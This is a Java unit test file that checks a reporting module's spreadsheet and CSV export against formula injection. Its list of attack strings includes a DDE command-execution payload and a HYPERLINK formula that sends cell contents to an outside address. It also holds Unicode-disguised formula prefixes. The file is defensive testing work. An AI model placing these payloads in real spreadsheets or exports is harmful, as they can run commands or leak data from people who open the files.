package outdial.reports.grid;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.file.Path;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a lead's file, a called person or an agent may type must reach the spreadsheet as the words they typed. */
final class FormulaInjectionTest {
    private static final List<String> ATTACKS = List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1,1)",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u00A0=1+1",
            "\u0000=1+1",
            "\u001F=1+1",
            "\uFEFF=1+1",
            "\u200B=1+1",
            "\uFF1D1+1",
            "\uFF0B1+1",
            "\uFF0D1+1",
            "\uFF20SUM(1,1)",
            "\",=1+1",
            "'=1+1",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "+1 202 555 0100");

    @TempDir
    @SuppressWarnings("NullAway.Init") // set by JUnit
    Path folder;

    @Test
    void in_a_workbook_every_text_is_a_text_and_stays_one_when_edited() throws IOException {
        try (var book = book(ATTACKS)) {
            for (int i = 0; i < ATTACKS.size(); i++) {
                XSSFCell cell = book.getSheetAt(0).getRow(i + 1).getCell(0);
                assertThat(cell.getCellType()).as(ATTACKS.get(i)).isEqualTo(CellType.STRING);
                boolean guarded = cell.getCellStyle().getQuotePrefixed();
                assertThat(guarded).as(ATTACKS.get(i)).isEqualTo(SafeText.startsFormula(cell.getStringCellValue()));
            }
        }
    }

    @Test
    void in_a_csv_file_no_cell_begins_as_a_formula_would() throws IOException {
        var out = new StringBuilder();
        CsvSheet.write(sheet(ATTACKS), ZoneOffset.UTC, out);
        List<String> read = readCsv(out);
        assertThat(read).hasSize(ATTACKS.size() + 1);
        assertThat(read).noneMatch(SafeText::startsFormula);
        assertThat(read.get(1)).isEqualTo("'=1+1");
        assertThat(read.getLast()).isEqualTo("'+1 202 555 0100");
    }

    @Test
    void harmless_text_is_left_alone() throws IOException {
        List<String> harmless =
                List.of("Šiauliai", "شیراز", "می\u200Cخواهم", "Jan-Willem", "a=b", "😀", "_x0041_", "x@example.org");
        try (var book = book(harmless)) {
            for (int i = 0; i < harmless.size(); i++) {
                XSSFCell cell = book.getSheetAt(0).getRow(i + 1).getCell(0);
                assertThat(cell.getStringCellValue()).isEqualTo(harmless.get(i));
                assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
            }
        }
    }

    @Test
    void what_xml_cannot_hold_is_left_out() {
        assertThat(SafeText.printable("a\u0000b\u0008c\u001Bd\u007Fe\u0085f\uFFFEg\uFFFFh\uD800i"))
                .isEqualTo("abcdefghi");
        assertThat(SafeText.printable("one\r\ntwo\rthree\nfour\tfive")).isEqualTo("one\ntwo\nthree\nfour\tfive");
    }

    @Test
    void text_longer_than_a_cell_is_cut_with_a_mark() {
        assertThat(SafeText.forExcel("x".repeat(32_767))).isEqualTo("x".repeat(32_767));
        assertThat(SafeText.forExcel("x".repeat(32_768))).hasSize(32_767).endsWith("x… [cut, 32768 characters in all]");
        assertThat(SafeText.forExcel("😀".repeat(20_000)))
                .hasSizeBetween(32_766, 32_767)
                .endsWith("😀… [cut, 40000 characters in all]");
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void any_text_is_read_back_as_its_printable_self(long seed) throws IOException {
        RandomGenerator random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
        List<String> texts = new ArrayList<>();
        for (int i = 0; i < 400; i++) {
            texts.add(random.ints(random.nextInt(1, 12), 0, 0x250)
                    .mapToObj(c -> random.nextInt(4) == 0 ? "=+-@_x000A_".charAt(c % 11) + "" : Character.toString(c))
                    .reduce("", String::concat));
        }
        try (var book = book(texts)) {
            for (int i = 0; i < texts.size(); i++) {
                XSSFCell cell = book.getSheetAt(0).getRow(i + 1).getCell(0);
                String expected = SafeText.printable(texts.get(i));
                assertThat(cell.getStringCellValue())
                        .as("seed %d, text %d", seed, i)
                        .isEqualTo(expected);
                assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
            }
        }
    }

    private XSSFWorkbook book(List<String> texts) throws IOException {
        Path file = folder.resolve("attacks.xlsx");
        try (var book = new XlsxBook(ZoneOffset.UTC)) {
            book.add(sheet(texts));
            book.writeTo(file);
        }
        return new XSSFWorkbook(file.toString());
    }

    private static Sheet sheet(List<String> texts) {
        return Sheet.of(
                "Attacks",
                List.of(XlsxBookTest.column("Text", Kind.TEXT)),
                texts.stream().map(text -> List.of(Cell.text(text))).toList());
    }

    private static List<String> readCsv(CharSequence csv) throws IOException {
        try (var parser = CSVFormat.RFC4180.parse(new StringReader(csv.toString()))) {
            return parser.stream().map(row -> row.get(0)).toList();
        }
    }
}
